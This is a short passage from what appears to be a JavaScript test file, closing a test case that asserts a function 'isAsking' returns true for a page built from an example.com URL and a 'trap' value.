  expect(isAsking(page("https://sua-77.example.com/", trap))).toBe(true);
});
